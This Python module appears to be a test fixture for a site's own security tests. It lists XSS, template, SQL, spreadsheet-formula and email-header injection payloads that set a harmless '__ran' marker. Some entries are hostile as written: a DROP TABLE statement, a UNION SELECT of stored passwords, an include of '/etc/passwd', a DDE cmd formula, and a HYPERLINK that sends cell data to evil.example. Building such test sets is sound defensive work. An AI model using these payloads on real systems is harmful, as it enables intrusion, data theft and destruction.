"""What somebody might write to make our own pages work against us; what runs sets `__ran`."""

from collections.abc import Iterator

SCRIPTS = [
    "<script>window.__ran=1</script>",
    "<ScRiPt>window.__ran=1</sCrIpT>",
    "<script src=https://evil.example/__ran.js></script>",
    "<script src=data:text/javascript,window.__ran=1></script>",
    "<script/x>window.__ran=1</script>",
    "<<script>window.__ran=1//<</script>",
    "<scr<script>ipt>window.__ran=1</scr</script>ipt>",
    "<script type=module>window.__ran=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.__ran=1>'>",
    "&lt;script&gt;window.__ran=1&lt;/script&gt;",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
]
HANDLERS = [
    "<img src=x onerror=window.__ran=1>",
    "<img src=x onerror=alert(window.__ran=1)>",
    "<body onload=window.__ran=1>",
    "<input autofocus onfocus=window.__ran=1>",
    "<details open ontoggle=window.__ran=1>",
    "<video><source onerror=window.__ran=1></video>",
    "<audio src=x onerror=window.__ran=1>",
    "<marquee onstart=window.__ran=1>x</marquee>",
    "<div onpointerenter=window.__ran=1>hover</div>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=window.__ran=1>",
    "<object data=x onerror=window.__ran=1></object>",
]
SVG_AND_MATH = [
    "<svg onload=window.__ran=1>",
    "<svg/onload=window.__ran=1>",
    "<svg><script>window.__ran=1</script></svg>",
    "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.__ran=1'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__ran=1>#x'></use></svg>",
    "<math><mtext><img src=x onerror=window.__ran=1></mtext></math>",
    "<math><maction actiontype='statusline' href='javascript:window.__ran=1'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=1></style></mglyph>",
]
OUT_OF_AN_ATTRIBUTE = [
    '"><img src=x onerror=window.__ran=1>',
    "'><img src=x onerror=window.__ran=1>",
    '" onmouseover="window.__ran=1',
    "' onmouseover='window.__ran=1",
    '" autofocus onfocus=window.__ran=1 x="',
    "` onfocus=window.__ran=1 x=`",
    "</textarea><svg/onload=window.__ran=1>",
    "</title><script>window.__ran=1</script>",
    "</style><script>window.__ran=1</script>",
    "</script><script>window.__ran=1</script>",
    "</dd></dl></section><script>window.__ran=1</script>",
    '\\"><script>window.__ran=1</script>',
]
ADDRESSES = [
    "javascript:window.__ran=1",
    "JaVaScRiPt:window.__ran=1",
    "java\tscript:window.__ran=1",
    " javascript:window.__ran=1",
    "javascript://evil.example/%0Awindow.__ran=1",
    "&#106;avascript:window.__ran=1",
    "data:text/html,<script>window.__ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    "vbscript:window.__ran=1",
    "<a href=javascript:window.__ran=1 autofocus>x</a>",
    "<form action=javascript:window.__ran=1><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__ran=1'>",
    "<link rel=stylesheet href=https://evil.example/__ran.css>",
    "<img src=https://evil.example/__ran.png>",
    '<div style="background:url(https://evil.example/__ran)">x</div>',
    "//evil.example/__ran",
]
UNICODE = [
    "\uff1cscript\uff1ewindow.__ran=1\uff1c/script\uff1e",
    "\u02bascript\u02ba<\u200bscript>window.__ran=1</script>",
    "\u202e<script>window.__ran=1</script>",
    "<script>\u2028window.__ran=1\u2029</script>",
    "<img\x0csrc=x\x0conerror=window.__ran=1>",
    "<img src=x onerror=\\u0077indow.__ran=1>",
    "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-",
    "\u00bcscript\u00bewindow.__ran=1\u00bc/script\u00be",
]
TEMPLATES = [
    "{{7*7}}__ran",
    "${7*7}__ran",
    "#{7*7}__ran",
    "<%= 7*7 %>__ran",
    "{% debug %}__ran",
    "{% load i18n %}{% include '/etc/passwd' %}__ran",
    "{{ request.user.password }}__ran",
    "{{ constructor.constructor('window.__ran=1')() }}",
    "%(reference)s %s {0.__class__.__ran}",
]
DATABASES = [
    "'; DROP TABLE contact_intakerequest; -- __ran",
    "' OR 1=1 -- __ran",
    "1) UNION SELECT username, password FROM auth_user -- __ran",
    "%_%__ran\\",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/__ran?"&A1,"x")',
    "=cmd|' /C __ran'!A0",
    "+1+1 __ran",
    "-1+1 __ran",
    "@SUM(1) __ran",
    "\t=1+1 __ran",
    "\uff1d1+1 __ran",
]
HEADERS = [
    "x\r\nBcc: __ran@evil.example",
    "x\nSubject: __ran",
    "x\r\n\r\n<script>window.__ran=1</script>",
    "x%0d%0aSet-Cookie: __ran=1",
    "x\r\nContent-Type: text/html\r\n__ran",
]
# Last: where they would work, they would swallow what follows them.
SWALLOWING = [
    "<!--><img src=x onerror=window.__ran=1>-->",
    "<!-- __ran",
    "<![CDATA[__ran",
    "<plaintext>__ran",
    "<textarea>__ran",
    "<title>__ran",
    "<select><option>__ran",
    "<template>__ran",
]
PAYLOADS = [
    *SCRIPTS,
    *HANDLERS,
    *SVG_AND_MATH,
    *OUT_OF_AN_ATTRIBUTE,
    *ADDRESSES,
    *UNICODE,
    *TEMPLATES,
    *DATABASES,
    *FORMULAS,
    *HEADERS,
    *SWALLOWING,
]

MAILBOXES = [
    '"<script>window.__ran=1</script>"@example.org',
    '"<img/src=x/onerror=window.__ran=1>"@example.org',
    "__ran'onfocus=window.__ran=1'@example.org",
    "{{7*7}}__ran@example.org",
]
"""What the form itself takes for a mail address; of a phone number it keeps the digits alone."""


def packs(size: int) -> Iterator[list[str]]:
    """All of them, in their order, so many at a time."""
    for at in range(0, len(PAYLOADS), size):
        yield PAYLOADS[at : at + size]
